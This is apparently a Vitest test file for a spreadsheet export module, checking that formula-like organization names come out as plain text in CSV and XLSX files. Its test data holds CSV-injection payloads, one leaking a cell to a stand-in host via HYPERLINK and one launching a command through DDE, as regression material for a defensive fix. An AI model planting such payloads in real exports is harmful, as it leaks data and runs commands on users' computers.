import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { csvCell, toCsv, toXlsx } from "./export";

// issue 14, finding 8: an organization renamed "=HYPERLINK(…)" or "@SUM(…)" was exported as a live formula
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"];

describe("an export's cells", () => {
  it("never start a formula in CSV: text that would gets a leading apostrophe (OWASP)", () => {
    for (const text of FORMULAS) {
      const cell = csvCell(text);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unquoted, JSON.stringify(text)).toBe(`'${text}`);
    }
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it("keep ordinary text, negative numbers and empty cells as they were", () => {
    expect(csvCell("School-Gymnasium No. 7")).toBe("School-Gymnasium No. 7");
    expect(csvCell("№ 12 экономикалық лицей")).toBe("№ 12 экономикалық лицей");
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell("a; b")).toBe('"a; b"');
    expect(csvCell(-3.5)).toBe("-3.5");
    expect(csvCell(42)).toBe("42");
    expect(csvCell(null)).toBe("");
  });

  it("write a whole CSV with every formula-like name as text", () => {
    const csv = toCsv({ headers: ["Name", "Received"], rows: FORMULAS.map((name, i) => [name, i]) });
    const lines = csv.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
    expect(lines).toHaveLength(FORMULAS.length + 1);
    // no line starts a formula: each begins with the apostrophe, quoted or not
    for (const line of lines.slice(1)) expect(line).toMatch(/^"?'/);
  });

  it("are text in XLSX, never formulas, formula-like names included", async () => {
    const bytes = await toXlsx({ headers: ["Name", "Received"], rows: FORMULAS.map((name, i) => [name, i]) }, "League");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    FORMULAS.forEach((name, i) => {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.type, name).toBe(ExcelJS.ValueType.String);
      // (XML reads a carriage return back as a line feed)
      expect(cell.value).toBe(name.replace(/\r/g, "\n"));
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe("@");
      expect(sheet.getCell(i + 2, 2).value).toBe(i);
    });
    // and the sheet's XML holds no formula element at all
    const JSZip = (await import("jszip")).default;
    const zip = await JSZip.loadAsync(bytes);
    const sheetXml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    expect(sheetXml).not.toContain("<f>");
    expect(sheetXml).not.toContain("<f ");
  });
});
